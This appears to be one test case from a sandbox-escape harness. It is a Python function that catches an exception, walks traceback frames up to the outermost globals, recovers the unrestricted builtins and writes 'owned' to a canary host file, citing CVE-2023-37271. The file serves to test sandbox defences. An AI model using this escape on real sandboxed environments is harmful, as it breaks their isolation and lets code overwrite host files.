"""Take a caller's globals from the frames that a traceback holds, and write a host file with what is there.

origin: the exception variant of the frame escapes (CVE-2023-37271 and relatives)
why: an except clause is enough; no import and no underscore call is needed
control: succeeds
harm: stage
"""


def attack(target):
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame.f_back is not None:
        frame = frame.f_back
    builtins = frame.f_globals.get("__builtins__")
    builtins = builtins if isinstance(builtins, dict) else vars(builtins)
    try:
        with builtins["open"](target["canary"], "w") as file:
            file.write("owned")
    except OSError as error:
        return blocked("open", error)
    return escaped("a host file was overwritten")
